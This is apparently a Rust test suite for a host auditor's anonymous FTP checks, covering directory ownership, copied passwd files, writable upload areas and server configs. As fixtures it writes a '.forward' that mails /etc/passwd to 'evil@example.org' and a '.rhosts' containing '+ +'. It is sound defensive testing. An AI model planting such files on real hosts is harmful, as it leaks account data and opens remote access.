//! The anonymous FTP checks on host roots built in temporary directories, with owners
//! and modes set for real (the tests run as root, as CI does; as another user the
//! owner-dependent cases are skipped with a message). Each check is seen firing on a bad
//! root and silent on the good one.

// Builds and reads test fixtures with the standard library: a test or benchmark, not the tool.
#![allow(clippy::disallowed_methods)]

use kensa_core::{Finding, Severity};
use std::fs;
use std::os::unix::fs::{PermissionsExt, chown, symlink};
use std::path::{Path, PathBuf};

const FTP_UID: u32 = 99;
const FTP_GID: u32 = 99;

fn is_root() -> bool {
    // The owner of a directory we just created is our effective uid.
    let dir = tempfile::tempdir().unwrap();
    use std::os::unix::fs::MetadataExt;
    fs::metadata(dir.path()).unwrap().uid() == 0
}

fn write(root: &Path, rel: &str, bytes: &[u8]) {
    let path = root.join(rel);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, bytes).unwrap();
}

fn dir(root: &Path, rel: &str, mode: u32, uid: u32, gid: u32) {
    let path = root.join(rel);
    fs::create_dir_all(&path).unwrap();
    chown(&path, Some(uid), Some(gid)).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(mode)).unwrap();
}

const PASSWD: &str = "root:x:0:0:root:/root:/bin/sh\n\
    daemon:*:1:1::/:\n\
    bin:*:2:2::/bin:\n\
    sys:*:3:3::/:\n\
    uucp:*:4:8::/var/spool/uucppublic:\n\
    ftp:*:99:99:Anonymous FTP:/home/ftp:/bin/false\n\
    tanaka:x:1001:10:Tanaka:/home/tanaka:/bin/csh\n";

/// A safe host: CERT's layout (root-owned 555 ~ftp, write-only incoming), dummy
/// passwd, ftpusers with every system account, safe server configurations.
fn good_root() -> (tempfile::TempDir, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("root");
    write(&root, "etc/passwd", PASSWD.as_bytes());
    write(
        &root,
        "etc/group",
        b"root:x:0:\nwheel:x:10:tanaka\nftp:x:99:\n",
    );
    write(&root, "etc/ftpusers", b"root\ndaemon\nbin\nsys\nuucp\n");
    for d in [
        "home/ftp",
        "home/ftp/bin",
        "home/ftp/etc",
        "home/ftp/pub",
        "home/ftp/usr",
        "home/ftp/usr/lib",
    ] {
        dir(&root, d, 0o555, 0, 0);
    }
    dir(&root, "home/ftp/incoming", 0o1733, 0, 0);
    let etc = root.join("home/ftp/etc");
    fs::set_permissions(&etc, fs::Permissions::from_mode(0o755)).unwrap();
    write(
        &root,
        "home/ftp/etc/passwd",
        b"root:*:0:0:::\nftp:*:99:99:Anonymous FTP::\n",
    );
    write(&root, "home/ftp/etc/group", b"root:*:0:\nftp:*:99:\n");
    write(&root, "home/ftp/.rhosts", b"");
    fs::set_permissions(&etc, fs::Permissions::from_mode(0o555)).unwrap();
    write(
        &root,
        "etc/ftpaccess",
        b"upload /home/ftp * no\nupload /home/ftp /incoming yes root daemon 0600 nodirs\n\
          chmod no guest,anonymous\ndelete no guest,anonymous\n",
    );
    write(
        &root,
        "etc/vsftpd.conf",
        b"anonymous_enable=YES\nwrite_enable=NO\n",
    );
    write(
        &root,
        "etc/proftpd/proftpd.conf",
        b"<Anonymous ~ftp>\n<Limit WRITE>\nDenyAll\n</Limit>\n</Anonymous>\n",
    );
    write(&root, "etc/pure-ftpd/conf/NoAnonymous", b"yes\n");
    (tmp, root)
}

fn ftp_findings(root: &Path) -> Vec<Finding> {
    let (findings, _) = kensa_host::audit(&kensa_testkit::root_at(root), "testhost");
    findings
        .into_iter()
        .filter(|f| f.code.starts_with("FT"))
        .collect()
}

fn codes(findings: &[Finding]) -> Vec<&'static str> {
    findings.iter().map(|f| f.code).collect()
}

macro_rules! need_root {
    () => {
        if !is_root() {
            println!("skipped: needs root to set owners");
            return;
        }
    };
}

#[test]
fn the_good_root_is_silent() {
    need_root!();
    let (_tmp, root) = good_root();
    let findings = ftp_findings(&root);
    assert!(findings.is_empty(), "{findings:#?}");
}

#[test]
fn ft001_ftp_owned_or_writable_system_dirs() {
    need_root!();
    let (_tmp, root) = good_root();
    dir(&root, "home/ftp", 0o755, FTP_UID, FTP_GID);
    dir(&root, "home/ftp/etc", 0o777, 0, 0);
    dir(&root, "home/ftp/bin", 0o575, 0, FTP_GID);
    dir(&root, "home/ftp/usr", 0o555, 1001, 10);
    let findings = ftp_findings(&root);
    assert_eq!(codes(&findings), ["FT001"; 4], "{findings:#?}");
    let by_path = |p: &str| {
        findings
            .iter()
            .find(|f| f.subject.path.as_deref() == Some(p))
            .unwrap()
    };
    assert!(by_path("home/ftp").title.contains("owned by the ftp user"));
    assert_eq!(by_path("home/ftp").severity, Severity::High);
    assert!(
        by_path("home/ftp/etc")
            .title
            .contains("writable by everyone")
    );
    assert!(by_path("home/ftp/bin").title.contains("ftp user's group"));
    assert!(by_path("home/ftp/usr").title.contains("not owned by root"));
    assert_eq!(by_path("home/ftp/usr").severity, Severity::Medium);
    assert_eq!(
        by_path("home/ftp").title_ja,
        "Anonymous FTP のディレクトリ home/ftp: ftp ユーザが所有し、書き込める"
    );
    assert_eq!(
        by_path("home/ftp/usr").title_ja,
        "Anonymous FTP のディレクトリ home/ftp/usr: root の所有ではない"
    );
    assert!(by_path("home/ftp").evidence[0].text.contains("owner ftp"));
    assert_eq!(
        by_path("home/ftp").evidence[0].text,
        "home/ftp: mode 0755, owner ftp, group ftp (owned by the ftp user and writable by it)"
    );
    assert_eq!(
        by_path("home/ftp").evidence[0].text_ja.as_deref(),
        Some("home/ftp: モード 0755、所有者 ftp、グループ ftp（ftp ユーザが所有し、書き込める）")
    );
    assert_eq!(
        by_path("home/ftp/usr").evidence[0].text_ja.as_deref(),
        Some("home/ftp/usr: モード 0555、所有者 tanaka、グループ wheel（root の所有ではない）")
    );
}

#[test]
fn ft002_passwd_with_hashes_or_copied() {
    need_root!();
    let (_tmp, root) = good_root();
    dir(&root, "home/ftp/etc", 0o755, 0, 0);
    write(
        &root,
        "home/ftp/etc/passwd",
        b"root:RzoH/GEUQ2Tc6:0:1:Operator:/:/bin/csh\nftp:*:99:99:::\n",
    );
    let findings = ftp_findings(&root);
    assert_eq!(codes(&findings), ["FT002"], "{findings:#?}");
    assert_eq!(findings[0].severity, Severity::High);
    assert_eq!(findings[0].subject.users, ["root"]);
    assert_eq!(
        findings[0].title_ja,
        "home/ftp/etc/passwd にパスワードのハッシュが 1 件ある"
    );
    // The hash itself never travels in a report.
    assert!(
        !findings[0].evidence[0].text.contains("RzoH/GEUQ2Tc6"),
        "{:?}",
        findings[0].evidence
    );
    write(&root, "home/ftp/etc/passwd", PASSWD.as_bytes());
    write(
        &root,
        "home/ftp/etc/group",
        b"root:x:0:\nwheel:x:10:tanaka\nftp:x:99:\n",
    );
    let findings = ftp_findings(&root);
    assert_eq!(codes(&findings), ["FT002", "FT002"], "{findings:#?}");
    assert!(findings[0].title.contains("copy of the real etc/passwd"));
    assert!(findings[1].title.contains("copy of the real etc/group"));
    assert_eq!(
        findings[0].title_ja,
        "home/ftp/etc/passwd は本物の etc/passwd の写し"
    );
    assert_eq!(
        findings[1].title_ja,
        "home/ftp/etc/group は本物の etc/group の写し"
    );
    assert_eq!(
        findings[0].evidence[0].text_ja.as_deref(),
        Some("home/ftp/etc/passwd: etc/passwd と同じアカウントが並んでいる")
    );
    assert_eq!(
        findings[1].evidence[0].text_ja.as_deref(),
        Some("home/ftp/etc/group: etc/group と同じグループが並んでいる")
    );
}

#[test]
fn ft003_forward_and_rhosts_in_the_ftp_root() {
    need_root!();
    let (_tmp, root) = good_root();
    dir(&root, "home/ftp", 0o755, 0, 0);
    write(
        &root,
        "home/ftp/.forward",
        b"|/bin/mail evil@example.org < /etc/passwd\n",
    );
    write(&root, "home/ftp/.rhosts", b"+ +\n");
    dir(&root, "home/ftp", 0o555, 0, 0);
    let findings = ftp_findings(&root);
    assert_eq!(codes(&findings), ["FT003", "FT003"], "{findings:#?}");
    assert_eq!(findings[0].severity, Severity::Critical);
    assert!(
        findings[0].evidence[0]
            .text
            .contains("|/bin/mail evil@example.org")
    );
    assert!(findings[1].evidence[0].text.contains("+ +"));
    // kensa's words in Japanese, the file's first line quoted as it is.
    let ja = findings[0].evidence[0]
        .text_ja
        .as_deref()
        .unwrap_or_default();
    assert!(
        ja.starts_with("home/ftp/.forward: モード 0")
            && ja.contains("、所有者 root、グループ root、42 バイト: ")
            && ja.ends_with(": \"|/bin/mail evil@example.org < /etc/passwd\""),
        "{ja}"
    );
    assert_eq!(
        findings[0].title_ja,
        "Anonymous FTP のルート・ディレクトリに .forward がある（home/ftp/.forward）"
    );
}

#[test]
fn ft003_a_link_is_described_not_followed_out_of_the_root() {
    need_root!();
    let (tmp, root) = good_root();
    let outside = tmp.path().join("outside-marker");
    fs::write(&outside, b"OUTSIDE-SECRET\n").unwrap();
    dir(&root, "home/ftp", 0o755, 0, 0);
    symlink(&outside, root.join("home/ftp/.forward")).unwrap();
    dir(&root, "home/ftp", 0o555, 0, 0);
    let findings = ftp_findings(&root);
    assert_eq!(codes(&findings), ["FT003"], "{findings:#?}");
    let text = &findings[0].evidence[0].text;
    assert!(text.contains("a link to"), "{text}");
    let ja = findings[0].evidence[0]
        .text_ja
        .as_deref()
        .unwrap_or_default();
    assert!(
        ja.contains("、所有者 root、グループ root、") && ja.ends_with(" へのシンボリックリンク）"),
        "{ja}"
    );
    assert!(!format!("{findings:?}").contains("OUTSIDE-SECRET"));
}

#[test]
fn ft004_writable_dirs_but_a_write_only_incoming() {
    need_root!();
    let (_tmp, root) = good_root();
    dir(&root, "home/ftp/pub", 0o777, 0, 0);
    dir(&root, "home/ftp/pub/deep/er", 0o755, FTP_UID, 0);
    let findings = ftp_findings(&root);
    assert_eq!(codes(&findings), ["FT004", "FT004"], "{findings:#?}");
    assert_eq!(findings[0].subject.path.as_deref(), Some("home/ftp/pub"));
    assert_eq!(
        findings[1].subject.path.as_deref(),
        Some("home/ftp/pub/deep/er")
    );
    assert_eq!(
        findings[0].title_ja,
        "Anonymous FTP のディレクトリ home/ftp/pub: 誰でも書き込める"
    );
    assert_eq!(
        findings[0].evidence[0].text_ja.as_deref(),
        Some("home/ftp/pub: モード 0777、所有者 root、グループ root（誰でも書き込める）")
    );
    // An incoming that can be listed is a drop box: reported, but lower.
    let (_tmp, root) = good_root();
    dir(&root, "home/ftp/incoming", 0o1777, 0, 0);
    let findings = ftp_findings(&root);
    assert_eq!(codes(&findings), ["FT004"], "{findings:#?}");
    assert_eq!(findings[0].severity, Severity::Medium);
    assert_eq!(
        findings[0].title_ja,
        "Anonymous FTP のアップロード用ディレクトリ home/ftp/incoming は書き込みだけでなく\
         読み出しもできる（誰でも書き込める）"
    );
}

#[test]
fn ft005_ftp_with_a_shell() {
    need_root!();
    let (_tmp, root) = good_root();
    write(
        &root,
        "etc/passwd",
        PASSWD
            .replace(
                "Anonymous FTP:/home/ftp:/bin/false",
                "Anonymous FTP:/home/ftp:",
            )
            .as_bytes(),
    );
    let findings = ftp_findings(&root);
    assert_eq!(codes(&findings), ["FT005"], "{findings:#?}");
    assert!(findings[0].title.contains("empty shell field"));
    assert_eq!(
        findings[0].title_ja,
        "Anonymous FTP のアカウント ftp にログインシェル（シェル欄が空: /bin/sh）がある"
    );
}

#[test]
fn ft006_ftpusers_missing_root() {
    need_root!();
    let (_tmp, root) = good_root();
    write(&root, "etc/ftpusers", b"daemon\nbin\n");
    let findings = ftp_findings(&root);
    assert_eq!(codes(&findings), ["FT006"], "{findings:#?}");
    assert_eq!(findings[0].subject.users, ["root", "sys", "uucp"]);
    assert_eq!(findings[0].severity, Severity::Medium);
    assert_eq!(
        findings[0].title_ja,
        "etc/ftpusers が root, sys, uucp を拒否していない"
    );
    assert_eq!(
        findings[0].evidence[0].text,
        "etc/ftpusers: does not list root, sys, uucp"
    );
    assert_eq!(
        findings[0].evidence[0].text_ja.as_deref(),
        Some("etc/ftpusers: root, sys, uucp が記載されていない")
    );
}

#[test]
fn ft007_to_ft010_server_configurations() {
    need_root!();
    let (_tmp, root) = good_root();
    write(
        &root,
        "etc/ftpaccess",
        b"upload /home/ftp * yes ftp ftp 0666 dirs\n",
    );
    write(
        &root,
        "etc/vsftpd.conf",
        b"anonymous_enable=YES\nwrite_enable=YES\nanon_upload_enable=YES\n",
    );
    write(
        &root,
        "etc/proftpd/proftpd.conf",
        b"<Anonymous ~ftp>\nUser ftp\n</Anonymous>\n",
    );
    write(&root, "etc/pure-ftpd/conf/NoAnonymous", b"no\n");
    let findings = ftp_findings(&root);
    assert_eq!(
        codes(&findings),
        ["FT007", "FT008", "FT009", "FT010"],
        "{findings:#?}"
    );
    assert_eq!(findings[0].evidence[0].line, 1);
    assert_eq!(findings[1].evidence.len(), 3);
    assert_eq!(
        findings[3].evidence[0].file,
        "etc/pure-ftpd/conf/NoAnonymous"
    );
    let titles_ja: Vec<&str> = findings.iter().map(|f| f.title_ja.as_str()).collect();
    assert_eq!(
        titles_ja,
        [
            "etc/ftpaccess: /home/ftp 以下の * への匿名のアップロードを許可している",
            "etc/vsftpd.conf: 匿名の利用者が書き込める（anon_upload_enable）",
            "etc/proftpd/proftpd.conf: <Anonymous ~ftp> に <Limit WRITE> DenyAll がない: \
             ftp ユーザが書き込める場所ならどこにでも匿名の利用者が書き込める",
            "etc/pure-ftpd/conf: Pure-FTPd が匿名の利用者にアップロードを許している",
        ]
    );
    // Lines of a configuration are quoted as they are: no Japanese of their own.
    assert_eq!(findings[1].evidence[0].text_ja, None);
}

#[test]
fn ft008_ft010_defaults_are_described_in_both_languages() {
    need_root!();
    let (_tmp, root) = good_root();
    write(
        &root,
        "etc/vsftpd.conf",
        b"write_enable=YES\nanon_upload_enable=YES\n",
    );
    fs::remove_dir_all(root.join("etc/pure-ftpd/conf")).unwrap();
    write(
        &root,
        "etc/pure-ftpd/pure-ftpd.conf",
        b"ChrootEveryone yes\n",
    );
    let findings = ftp_findings(&root);
    assert_eq!(codes(&findings), ["FT008", "FT010"], "{findings:#?}");
    let vsftpd = &findings[0].evidence[0];
    assert_eq!(
        vsftpd.text,
        "anonymous_enable not set: vsftpd's default (YES) applies"
    );
    assert_eq!(
        vsftpd.text_ja.as_deref(),
        Some("anonymous_enable が未設定: vsftpd の既定値（YES）が適用される")
    );
    assert_eq!(findings[1].evidence.len(), 1);
    assert_eq!(
        findings[1].evidence[0].text_ja.as_deref(),
        Some(
            "etc/pure-ftpd/pure-ftpd.conf: NoAnonymous も AnonymousCantUpload も設定されていない\
             （どちらも既定値は no）"
        )
    );
}

#[test]
fn no_ftp_account_no_area_findings() {
    need_root!();
    let (_tmp, root) = good_root();
    write(
        &root,
        "etc/passwd",
        PASSWD.replace("ftp:*:99", "ftpx:*:99").as_bytes(),
    );
    dir(&root, "home/ftp", 0o777, 0, 0);
    assert!(ftp_findings(&root).is_empty());
}

#[test]
fn vsftpd_anon_root_is_an_anonymous_area_too() {
    need_root!();
    let (_tmp, root) = good_root();
    write(
        &root,
        "etc/vsftpd.conf",
        b"anonymous_enable=YES\nanon_root=/srv/ftp\n",
    );
    dir(&root, "srv/ftp", 0o755, FTP_UID, FTP_GID);
    let findings = ftp_findings(&root);
    assert_eq!(codes(&findings), ["FT001"], "{findings:#?}");
    assert_eq!(findings[0].subject.path.as_deref(), Some("srv/ftp"));
}

#[test]
fn ft001_files_in_bin_and_etc_writable_by_ftp() {
    need_root!();
    let (_tmp, root) = good_root();
    dir(&root, "home/ftp/bin", 0o755, 0, 0);
    write(&root, "home/ftp/bin/ls", b"\x7fELF");
    chown(root.join("home/ftp/bin/ls"), Some(FTP_UID), Some(FTP_GID)).unwrap();
    dir(&root, "home/ftp/bin", 0o555, 0, 0);
    let findings = ftp_findings(&root);
    assert_eq!(codes(&findings), ["FT001"], "{findings:#?}");
    assert_eq!(findings[0].subject.path.as_deref(), Some("home/ftp/bin/ls"));
    assert_eq!(
        findings[0].title_ja,
        "Anonymous FTP のファイル home/ftp/bin/ls: ftp ユーザが所有し、書き込める"
    );
}

#[test]
fn ft004_walk_never_follows_links() {
    need_root!();
    let (tmp, root) = good_root();
    // A writable directory outside the area, reachable only through links.
    dir(&root, "var/spool/open", 0o777, 0, 0);
    let outside = tmp.path().join("outside");
    dir(tmp.path(), "outside/open", 0o777, 0, 0);
    dir(&root, "home/ftp/pub", 0o755, 0, 0);
    symlink("/var/spool", root.join("home/ftp/pub/abs")).unwrap();
    symlink("../../../var/spool", root.join("home/ftp/pub/rel")).unwrap();
    symlink(&outside, root.join("home/ftp/pub/out")).unwrap();
    symlink(".", root.join("home/ftp/pub/loop")).unwrap();
    dir(&root, "home/ftp/pub", 0o555, 0, 0);
    let findings = ftp_findings(&root);
    assert!(findings.is_empty(), "{findings:#?}");
}

#[test]
fn ft004_walk_is_bounded_in_depth() {
    need_root!();
    let (_tmp, root) = good_root();
    dir(&root, "home/ftp/pub", 0o755, 0, 0);
    // A writable directory deeper than the walk goes, and one just within reach.
    let mut deep = String::from("home/ftp/pub");
    for i in 0..kensa_host::ftp::MAX_WALK_DEPTH + 2 {
        deep.push_str(&format!("/d{i}"));
        fs::create_dir(root.join(&deep)).unwrap();
        if i == 3 || i == kensa_host::ftp::MAX_WALK_DEPTH + 1 {
            fs::set_permissions(root.join(&deep), fs::Permissions::from_mode(0o777)).unwrap();
        }
    }
    let findings = ftp_findings(&root);
    assert_eq!(codes(&findings), ["FT004"], "{findings:#?}");
    assert_eq!(
        findings[0].subject.path.as_deref(),
        Some("home/ftp/pub/d0/d1/d2/d3")
    );
}
